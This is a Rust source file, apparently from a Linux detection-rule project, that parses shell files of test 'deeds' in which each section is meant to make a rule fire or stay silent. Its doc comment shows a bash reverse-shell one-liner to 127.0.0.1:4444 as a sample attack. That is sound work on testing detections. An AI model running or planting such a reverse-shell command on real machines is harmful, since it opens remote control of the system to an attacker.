//! The files of deeds, `attacks/*.sh`: shell, in sections of which each is done by itself.
//!
//! ```sh
//! #: reverse_shell attack: bash
//! bash -i >& /dev/tcp/127.0.0.1/4444 0>&1
//!
//! #: reverse_shell harmless: a shell in a pipeline
//! #: keep process.name == "sh"
//! echo true | sh
//! ```
//!
//! An attack is to make its rule fire; what is harmless is not to. `#: work: WHAT` begins what people and machines do all
//! day, on which no rule is to find anything severe, and `#: sigma: WHAT` what rules in Sigma's format ask for. Lines beginning with `#:` below the first say more:
//!
//! | line | meaning |
//! | --- | --- |
//! | `#: keep CONDITION` | which events a recording of what is harmless keeps |
//! | `#: by alice` | a user does it (uid 1000, who may use sudo), and not root |
//! | `#: by container` | root of a container does it: a control group of a container's name, and no login |
//! | `#: with network` | on this machine's network, instead of one of its own that leads nowhere |
//! | `#: with packages` | on a root file system with what builds programs too; only by `cargo xtask attack --all` |
//! | `#: patience SECONDS` | how long the finding may take, where that is more than [`PATIENCE`] |

use std::path::{Path, PathBuf};
use std::time::Duration;

use anyhow::{Context, Result, bail};

use crate::workspace;

/// How long a finding may take after the deed.
const PATIENCE: Duration = Duration::from_secs(3);

/// What a deed is to show.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Purpose {
    /// The rule fires.
    Attack,
    /// The rule does not fire.
    Harmless,
    /// No rule finds anything severe.
    Work,
    /// Rules in Sigma's format fire, which are not the project's.
    Sigma,
}

/// Who does it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Actor {
    /// root, logged in.
    Root,
    /// The user with the number 1000, logged in, who may use sudo.
    Alice,
    /// root of a container.
    Container,
}

/// One section.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Deed {
    /// The rule that it is for; `work` or `sigma` where it is for none of ours.
    pub(super) rule: String,
    /// Whether that rule is to fire.
    pub(super) purpose: Purpose,
    /// The tool of the attack, or what is done.
    pub(super) name: String,
    /// Which events its recording keeps, where it is harmless.
    pub(super) keep: Option<String>,
    /// Who does it.
    pub(super) by: Actor,
    /// Whether it is done on this machine's network.
    pub(super) with_network: bool,
    /// Whether it is done on a root file system with what builds programs.
    pub(super) with_packages: bool,
    /// How long the finding may take after it.
    pub(super) patience: Duration,
    /// The shell's lines.
    pub(super) script: String,
    /// `file:line` of its beginning.
    pub(super) place: String,
}

impl Deed {
    /// What it is called: `reverse_shell/bash`.
    pub(super) fn title(&self) -> String {
        let part = |text: &str| {
            let plain =
                |c: char| if c.is_ascii_alphanumeric() || c == '_' { c.to_ascii_lowercase() } else { '-' };
            text.chars().map(plain).collect::<String>()
        };
        format!("{}/{}", part(&self.rule), part(&self.name))
    }
}

/// All deeds whose title contains one of the filters; all where there is none. Those that want packages only where they
/// are asked for.
///
/// # Errors
/// A file cannot be read, or is not in sections.
pub(super) fn load(filters: &[String], with_packages: bool) -> Result<Vec<Deed>> {
    let folder = workspace::root().join("attacks");
    let entries = std::fs::read_dir(&folder).with_context(|| format!("cannot read {}", folder.display()))?;
    let mut files: Vec<PathBuf> = entries.filter_map(|entry| Some(entry.ok()?.path())).collect();
    files.retain(|file| file.extension().is_some_and(|extension| extension == "sh"));
    files.sort();
    let mut deeds: Vec<Deed> = Vec::new();
    for file in &files {
        let text =
            std::fs::read_to_string(file).with_context(|| format!("cannot read {}", file.display()))?;
        let name = file.strip_prefix(workspace::root()).unwrap_or(file);
        deeds.extend(parse(name, &text)?);
    }
    for (index, deed) in deeds.iter().enumerate() {
        if let Some(other) = deeds[..index].iter().find(|other| other.title() == deed.title()) {
            bail!("{}: there is a {} at {} already", deed.place, deed.title(), other.place);
        }
    }
    deeds.retain(|deed| filters.is_empty() || filters.iter().any(|filter| deed.title().contains(filter)));
    deeds.retain(|deed| with_packages || !deed.with_packages);
    if deeds.is_empty() {
        bail!(
            "there is no deed in {} whose title contains one of {filters:?}; some are done with `--all` alone",
            folder.display()
        );
    }
    Ok(deeds)
}

/// The sections of a file.
pub(super) fn parse(file: &Path, text: &str) -> Result<Vec<Deed>> {
    let mut deeds: Vec<Deed> = Vec::new();
    for (index, line) in text.lines().enumerate() {
        let place = format!("{}:{}", file.display(), index + 1);
        let Some(directive) = line.strip_prefix("#: ") else {
            if line.starts_with("#:") {
                bail!("{place}: a blank is missing after `#:`");
            }
            match deeds.last_mut() {
                Some(deed) => {
                    deed.script.push_str(line);
                    deed.script.push('\n');
                }
                None if line.is_empty() || line.starts_with('#') => {}
                None => {
                    bail!(
                        "{place}: a section begins with `#: RULE attack: TOOL`, `#: RULE harmless: WHAT`, `#: work: WHAT` or `#: sigma: WHAT`"
                    )
                }
            }
            continue;
        };
        match (begin(directive, &place), deeds.last_mut()) {
            (Some(deed), _) => deeds.push(deed),
            (None, Some(deed)) => {
                deed.set(directive)
                    .with_context(|| format!("{place}: `#: {directive}` means nothing here"))?;
            }
            (None, None) => {
                bail!(
                    "{place}: expected `#: RULE attack: TOOL`, `#: RULE harmless: WHAT`, `#: work: WHAT` or `#: sigma: WHAT`"
                )
            }
        }
    }
    for deed in &deeds {
        if deed.script.trim().is_empty() {
            bail!("{}: nothing is done here", deed.place);
        }
        if deed.purpose == Purpose::Harmless && deed.keep.is_none() {
            bail!("{}: say which events are to be kept: `#: keep CONDITION`", deed.place);
        }
    }
    Ok(deeds)
}

/// The deed that a section's first line begins.
fn begin(directive: &str, place: &str) -> Option<Deed> {
    let (head, name) = directive.split_once(": ")?;
    let (rule, purpose) = match head.split_once(' ') {
        Some((rule, "attack")) => (rule, Purpose::Attack),
        Some((rule, "harmless")) => (rule, Purpose::Harmless),
        None if head == "work" => (head, Purpose::Work),
        None if head == "sigma" => (head, Purpose::Sigma),
        _ => return None,
    };
    Some(Deed {
        rule: rule.to_owned(),
        purpose,
        name: name.trim().to_owned(),
        keep: None,
        by: Actor::Root,
        with_network: false,
        with_packages: false,
        patience: PATIENCE,
        script: String::new(),
        place: place.to_owned(),
    })
}

impl Deed {
    /// Takes over one of the further lines.
    fn set(&mut self, directive: &str) -> Option<()> {
        let (word, rest) = directive.split_once(' ')?;
        match (word, rest.trim()) {
            ("keep", condition) => self.keep = Some(condition.to_owned()),
            ("by", "alice") => self.by = Actor::Alice,
            ("by", "container") => self.by = Actor::Container,
            ("with", "network") => self.with_network = true,
            ("with", "packages") => self.with_packages = true,
            ("patience", seconds) => self.patience = Duration::from_secs(seconds.parse().ok()?),
            _ => return None,
        }
        Some(())
    }
}

/// What a deed shows of a rule.
pub(crate) struct Shown {
    /// The rule.
    pub(crate) rule: String,
    /// Whether it fires on the deed.
    pub(crate) attack: bool,
    /// The tool, or what is done.
    pub(crate) name: String,
    /// The file that the deed is in.
    pub(crate) file: String,
}

/// What all deeds show of rules.
///
/// # Errors
/// A file of deeds cannot be read.
pub(crate) fn shown() -> Result<Vec<Shown>> {
    let mut deeds = load(&[], true)?;
    deeds.retain(|deed| matches!(deed.purpose, Purpose::Attack | Purpose::Harmless));
    let shown = |deed: Deed| Shown {
        attack: deed.purpose == Purpose::Attack,
        file: deed.place.rsplit_once(':').map_or(deed.place.clone(), |(file, _)| file.to_owned()),
        rule: deed.rule,
        name: deed.name,
    };
    Ok(deeds.into_iter().map(shown).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parsed(text: &str) -> Result<Vec<Deed>, String> {
        parse(Path::new("a.sh"), text).map_err(|error| format!("{error:#}"))
    }

    #[test]
    fn a_file_is_its_sections() {
        let text = "# About.\n\n#: a_b attack: bash -i\n#: patience 9\nx\n# y\n\n#: c harmless: so what\n#: by container\n#: keep process.pid == 1\nz\n";
        let deeds = parsed(text).expect("it is right");
        let (first, second) = (&deeds[0], &deeds[1]);
        assert_eq!((first.title().as_str(), first.purpose), ("a_b/bash--i", Purpose::Attack));
        assert_eq!((first.script.as_str(), first.patience.as_secs()), ("x\n# y\n\n", 9));
        assert_eq!((second.title().as_str(), second.purpose), ("c/so-what", Purpose::Harmless));
        assert_eq!((second.keep.as_deref(), second.by), (Some("process.pid == 1"), Actor::Container));
        assert_eq!(second.place, "a.sh:8");
    }

    #[test]
    fn what_is_no_section_is_told_with_its_line() {
        for (text, expected) in [
            ("x", "a.sh:1: a section begins with"),
            ("#: a attack: b\n", "a.sh:1: nothing is done here"),
            ("#: a harmless: b\nx\n", "a.sh:1: say which events are to be kept"),
            ("#: a attack: b\n#: patience long\nx\n", "a.sh:2: `#: patience long` means nothing here"),
            ("#: by container\n", "a.sh:1: expected `#: RULE attack: TOOL`"),
        ] {
            let error = parsed(text).expect_err(text);
            assert!(error.starts_with(expected), "{text}: {error}");
        }
    }
}
